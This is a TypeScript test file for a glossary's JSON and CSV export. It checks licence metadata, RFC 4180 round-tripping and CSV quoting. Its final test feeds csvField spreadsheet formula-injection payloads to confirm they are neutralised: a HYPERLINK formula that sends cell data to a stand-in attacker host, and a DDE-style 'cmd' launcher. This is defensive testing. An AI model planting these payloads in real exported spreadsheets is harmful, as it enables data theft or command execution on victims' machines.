import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvField, glossaryCsv, glossaryDownload, OPEN_FIELDS } from './open-data.ts';
import { termFile } from '../../../tests/helpers/terms.ts';
import type { TermFile } from './term-model.ts';

const term = (overrides: Partial<TermFile> = {}): TermFile =>
	termFile({
		term: 'Overfitting',
		slug: 'overfitting',
		aliases: ['Overtraining'],
		short_definition: 'When a model learns noise, "too well", and fails on new data.',
		comprehensive_definition: 'First paragraph.\n\nSecond, with a comma.',
		examples: ['One, with a comma.', 'Two "quoted".'],
		example_sentences: [],
		difficulty_level: 'beginner',
		categories: ['Machine Learning:Training Concepts'],
		related_terms: ['underfitting', 'regularization'],
		meta_title: null,
		meta_description: null,
		pronunciation_us_audio: null,
		pronunciation_uk_audio: null,
		...overrides,
	});

test('the JSON download holds every term with every field, its page, the licence and a version', () => {
	const download = glossaryDownload(
		[term(), term({ term: 'Underfitting', slug: 'underfitting' })],
		'https://x.example',
		new Date(0),
	);
	expect(download.count).toBe(2);
	expect(download.license.url).toBe('https://creativecommons.org/licenses/by/4.0/');
	expect(download.terms[0]!.url).toBe('https://x.example/glossary/overfitting');
	for (const name of OPEN_FIELDS) expect(download.terms[0]).toHaveProperty(name);
	const changed = glossaryDownload(
		[term({ short_definition: 'Edited.' })],
		'https://x.example',
		new Date(0),
	);
	expect(changed.version).not.toBe(download.version);
});

test('the CSV round-trips through a standard RFC 4180 parser', () => {
	const download = glossaryDownload(
		[term(), term({ term: 'Gradient Descent', slug: 'gradient-descent', aliases: [] })],
		'https://x.example',
		new Date(0),
	);
	const csv = glossaryCsv(download.terms);
	expect(csv.endsWith('\r\n')).toBe(true);
	const rows = parse(csv, { columns: true }) as Record<string, string>[];
	expect(rows).toHaveLength(2);
	expect(rows[0]!.short_definition).toBe(
		'When a model learns noise, "too well", and fails on new data.',
	);
	expect(rows[0]!.comprehensive_definition).toBe('First paragraph.\n\nSecond, with a comma.');
	expect(rows[0]!.examples).toBe('One, with a comma.\nTwo "quoted".');
	expect(rows[0]!.related_terms).toBe('underfitting, regularization');
	expect(rows[1]!.aliases).toBe('');
	expect(rows[1]!.url).toBe('https://x.example/glossary/gradient-descent');
});

test('csvField quotes only what needs it', () => {
	expect(csvField('plain')).toBe('plain');
	expect(csvField('a,b')).toBe('"a,b"');
	expect(csvField('say "hi"')).toBe('"say ""hi"""');
});

test('csvField neutralises a cell a spreadsheet would read as a formula', () => {
	expect(csvField('=HYPERLINK("https://evil.example/?d="&A2,"Click")')).toBe(
		'"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Click"")"',
	);
	expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
	expect(csvField('+cmd')).toBe("'+cmd");
	expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
	expect(csvField('\tx')).toBe("'\tx");
	expect(csvField('\rx')).toBe('"\'\rx"');
	// Elsewhere in the text the same characters are ordinary.
	expect(csvField('a = b - c')).toBe('a = b - c');
});
